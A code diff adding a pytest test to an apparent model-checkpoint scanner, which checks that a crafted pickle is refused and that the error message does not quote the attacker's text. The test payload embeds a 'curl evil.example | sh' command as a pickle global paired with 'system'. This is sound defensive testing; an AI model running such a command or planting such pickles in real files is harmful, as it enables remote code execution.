@@ -1071,3 +1071,14 @@ def test_a_deflated_item_is_refused(deflated):
         rf"bytes from \d+ \(it is {len(item)} bytes in all\)",
     ):
         torchzip().vet_item(embedded(item), 100, len(item), "the item 'w'")
+
+
+def test_a_refused_name_is_quoted_only_if_it_is_a_python_name():
+    """A crafted global is not pasted into the advice a reader may copy."""
+    from dlcomp._torchzip import scan_pickle
+
+    data = b"\x80\x02c" + b"curl evil.example | sh x\nsystem\n" + b")R."
+    with pytest.raises(CheckpointError) as refused:
+        scan_pickle(data, "cmd.pt")
+    assert "curl" not in str(refused.value)
+    assert "not a Python name" in str(refused.value)
